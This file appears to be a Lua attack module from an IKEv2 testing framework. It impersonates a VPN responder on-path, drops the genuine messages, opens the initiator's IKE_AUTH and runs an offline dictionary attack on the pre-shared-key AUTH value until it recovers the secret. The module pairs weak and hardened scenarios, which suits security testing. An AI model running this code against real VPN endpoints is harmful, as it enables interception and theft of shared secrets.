-- A responder of the adversary's own. The initiator sends AUTH, made from its shared secret, before it has checked whom it talks to:
-- whoever answers IKE_SA_INIT can open that message and try secrets at leisure. Nobody is asked again, and no try is seen.
attack = {
  id = "A07", name = "psk-dictionary",
  about = "Answers IKE_SA_INIT in the responder's place, takes the initiator's AUTH and tries a dictionary on it",
  position = "on-path",
  needs = "to answer instead of the responder, once",
  source = "RFC 7296, 2.15 (a secret from a dictionary can be tried by whoever gets AUTH); catalogue A07",
  shows = {
    vulnerable = "the shared secret is a word with a year behind it: it is found after some hundred tries",
    hardened = "a secret of 128 random bits is in no dictionary; with certificates there is nothing to try",
  },
  scenarios = { vulnerable = "psk-dictionary-weak", hardened = { "psk-dictionary", "psk-dictionary-certificates" } },
}

local answerer, secrets = library "answerer", library "secrets"
local goal = "find the shared secret"

-- Parameters: dictionary = "common"; each = 200 (tries in one go), pause = "10ms" (between them).
local plan, search
local dictionary         -- its words
local variants = secrets.variants
local trial              -- what AUTH is compared with, once it is there
local me                 -- the adversary's half of the exchange: keys, nonces, SPIs

function on_start(params)
  plan = secrets.plan(params)
  dictionary = plan.words
end

-- IKE_AUTH: who the initiator is, and AUTH. From here on the work is done in silence.
local function take_auth(p)
  local inner, why = ike.open(p.payload, me.suite, me.keys)
  if not inner then return say("IKE_AUTH does not open: " .. why) end
  me.asked = true
  local id, auth = find(inner, "IDi"), find(inner, "AUTH")
  learn("identity", id.id_type_name .. " " .. id.data, "IDi is sent before the responder has shown who it is", id.data)
  if auth.method ~= 2 then
    learn("AUTH", "a signature (" .. auth.method_name .. "): no secret to try", "AUTH payload")
    return achieved(goal, false, "the initiator signs: there is no shared secret to guess")
  end
  learn("AUTH", "made from the shared secret: each word can be tried against it", "AUTH payload", auth.data)
  trial = { at = 1, auth = auth.data, octets = answerer.peer_octets(me, id) }
  search = secrets.search(plan, {
    vary = function(word) return variants(word) end,
    fits = function(guess) return ike.psk_auth(me.suite.prf, guess, trial.octets) == trial.auth end,
    found = function(guess, tried)
      learn("psk", "the shared secret is \"" .. guess .. "\"", "try " .. tried .. " of a dictionary on AUTH", guess)
      achieved(goal, true, "found at try " .. tried)
    end,
    none = function(tried) achieved(goal, false, "not one of " .. tried .. " secrets of the dictionary") end,
  })
end

function on_timer() search() end

on({ response = false }, function(p, message)
  if message.exchange_name == "IKE_SA_INIT" and not me then
    drop("the responder must not see it")
    me = answerer.answer(p, message)
  elseif me and message.spi_r == me.spi then
    drop("meant for " .. p.to .. ", kept")
    if not me.asked and message.exchange_name == "IKE_AUTH" then take_auth(p) end
  end
end)

function on_finish()
  if not me then achieved(goal, false, "no handshake came by") end
end
